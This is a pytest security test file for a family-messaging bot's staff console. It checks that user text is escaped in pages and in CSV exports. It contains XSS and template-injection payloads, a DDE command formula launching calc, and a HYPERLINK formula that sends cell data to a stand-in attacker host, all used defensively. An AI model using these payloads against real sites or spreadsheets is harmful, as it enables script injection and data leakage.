"""Text that people write stays text wherever it is shown.

Every inbound field, every roster cell, every field of every form of the console; then every page is parsed as a browser
does.
"""

from collections import Counter
from collections.abc import Callable
from pathlib import Path

import pytest
from flask.testing import FlaskClient
from sqlalchemy import select

from bot.base import csv_export
from bot.base.settings import ROOT
from bot.runtime import Runtime
from bot.store.announcements import announcements
from bot.store.meetings import meetings
from bot.web.console.registration import issue_password
from tests.announcements.conftest import District
from tests.conftest import Family
from tests.roster.conftest import Roster, roster
from tests.security.pages import crawl, get_page, kind_of, submit_form
from tests.web.console.conftest import announced, busy, district, gathered
from tests.web.console.test_console import log_in
from tests.web.console.test_login import cheap_passwords

__all__ = ["announced", "busy", "cheap_passwords", "district", "gathered", "roster"]  # these fixtures also apply here


def build_payload(name: str) -> str:
    return f"mark {name} \"'><xss{name} onerror=alert(1)>{{{{7*7}}}}</textarea></script><!--"


INBOUND: dict[str, dict[str, str]] = {
    "body": {"Body": build_payload("body")},
    "profile": {"ProfileName": build_payload("profile"), "Body": "hello"},
    "button": {"MessageType": "button", "ButtonText": build_payload("button"), "Body": build_payload("buttonbody")},
    "payload": {"MessageType": "interactive", "ButtonPayload": build_payload("payload"), "Body": "yes"},
    "list": {
        "ListId": build_payload("list"),
        "ListTitle": build_payload("listtitle"),
        "Body": build_payload("listbody"),
    },
    "location": {
        "MessageType": "location",
        "Latitude": build_payload("lat"),
        "Address": build_payload("adr"),
        "Label": build_payload("lab"),
    },
    "media": {
        "NumMedia": "1",
        "MediaContentType0": f"audio/{build_payload('type')}",
        "MediaUrl0": build_payload("url"),
    },
    "file": {"MessageType": "document", "Body": build_payload("file"), "MediaContentType0": "application/pdf"},
    "reply": {"OriginalRepliedMessageSid": build_payload("reply"), "Body": build_payload("replied")},
    "place": {"FromCity": build_payload("city"), "FromState": build_payload("state"), "Body": "hello"},
}
"""A message for each field of Twilio's form that a family or an attacker can choose."""
DISPLAYED_FIELDS = {"body", "buttonbody", "listbody", "replied"}
"""Staff read these: they prove that the test looks in the right place."""


@pytest.mark.long
def test_every_inbound_field_stays_text(
    runtime: Runtime, client: FlaskClient, busy: None, new_family: Callable[[str], Family], roster: Roster
) -> None:
    family = new_family("whatsapp:+12175550177")  # a person has taken over: everything the family writes is shown
    for name, fields in INBOUND.items():
        family.text(fields.get("Body", ""), **{key: value for key, value in fields.items() if key != "Body"})
        assert family.status == 200, name
        stranger = new_family(f"whatsapp:US.{build_payload(name)}"[:120])
        stranger.text("I want to talk to a person")
        stranger.text(build_payload(f"stranger{name}"))
    cells = ",".join(
        '"' + build_payload(name).replace('"', '""') + '"' for name in ("school", "language", "role", "tags")
    )
    roster.read(
        f"phone,school,language,role,tags\n217-555-0123,{cells}\n2175550124,lincoln,es,,{build_payload('tag')!r}\n"
    )
    assert log_in(client, "root", issue_password(runtime, "root", "administrator", "ana_ruiz")) == 302
    pages = crawl(client, ["/console/", "/console/cases/1", "/console/cases/2", "/console/cases/3"])
    assert len(pages) > 40 and {page.path: page.dangers for page in pages if page.dangers} == {}
    words = "".join(page.words for page in pages)
    assert {name for name in DISPLAYED_FIELDS if f"<xss{name} onerror=alert(1)>{{{{7*7}}}}" not in words} == set()


@pytest.mark.long
def test_every_form_field_stays_text(
    runtime: Runtime, client: FlaskClient, announced: District, gathered: None
) -> None:
    client.application.config["WTF_CSRF_ENABLED"] = False
    assert log_in_without_token(client, runtime) == 302
    for round_, link in enumerate(("javascript:alert(1)", 'https://example.org/"><xsslink>')):
        sent, kinds = 0, Counter[str]()
        for page in crawl(client, ["/console/"]):
            for number, form in enumerate(page.forms):
                kinds[kind_of(form.action)] += 1
                if kinds[kind_of(form.action)] > 4:
                    continue
                name = f"{page.path}{number}{round_}".replace("/", "").replace("?", "").replace("=", "")
                sent += submit_form(client, form, build_payload(name[-40:])[:280], link) in (200, 302, 303)
        assert sent > 20
    pages = crawl(client, ["/console/"])
    with runtime.database.read() as db:
        codes = [f"/m/{one}" for one in db.execute(select(announcements.announcements.c.code)).scalars()]
        codes += [f"/g/{one}" for one in db.execute(select(meetings.meetings.c.code)).scalars()]
    public = [page for path in codes for page in (get_page(client, path), get_page(client, f"{path}/kit")) if page]
    assert len(pages) > 40 and public
    assert {page.path: page.dangers for page in [*pages, *public] if page.dangers} == {}
    assert sum("<xss" in page.words for page in pages) > 5, "many pages show what was written"


def log_in_without_token(client: FlaskClient, runtime: Runtime) -> int:
    password = issue_password(runtime, "root", "administrator", "ana_ruiz")
    return client.post("/console/login", data={"name": "root", "password": password}).status_code


# --- Spreadsheets ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@SUM(1)", "\t=1", "\r=1", "\n=1", "＝1", "=cmd|' /C calc'!A0"])
def test_no_csv_cell_is_a_formula(cell: str) -> None:
    assert (
        csv_export.escape_cell(cell) == "'" + cell
        and csv_export.escape_cell(-3) == "-3"
        and csv_export.escape_cell(None) == ""
    )
    assert csv_export.format_line([cell, "plain", 4, None]).startswith(("'", "\"'"))


def test_only_csv_export_writes_csv() -> None:
    writers = [
        path
        for path in (ROOT / "bot").rglob("*.py")
        if "csv.writer" in (text := path.read_text()) or "DictWriter" in text
    ]
    assert writers == [ROOT / "bot/base/csv_export.py"]


@pytest.mark.long
def test_family_question_is_no_formula_in_export(runtime: Runtime, client: FlaskClient, gathered: None) -> None:
    from bot.base.database import now
    from bot.store.meetings import meeting_questions

    with runtime.database.write() as db:
        meeting_questions.add(db, 1, '=HYPERLINK("https://evil.example/"&A1)', "es", now().date())
    assert log_in(client, "root", issue_password(runtime, "root", "administrator", "ana_ruiz")) == 302
    files = [client.get(f"/console/gatherings/1/{one}.csv").text for one in ("questions", "families")]
    files += [client.get(f"/console/{one}.csv").text for one in ("attendance", "agents/drilled")]
    assert "'=HYPERLINK" in files[0]
    assert not [
        row for file in files for row in file.splitlines() if row.lstrip('"').startswith(csv_export.FORMULA_PREFIXES)
    ]


def test_roster_report_contains_no_formula(roster: Roster, tmp_path: Path) -> None:
    from bot.roster.report import create_csv_writer

    roster.read("phone,school\n=cmd|' /C calc'!A0,@lincoln\n")
    path = tmp_path / "report.csv"
    with path.open("w", newline="") as file:
        keep = create_csv_writer(file)
        for one in roster.findings:
            keep(one)
    assert path.read_text().count("\n") > 1
    assert not [row for row in path.read_text().splitlines() if ",=" in row or row.startswith("=")]
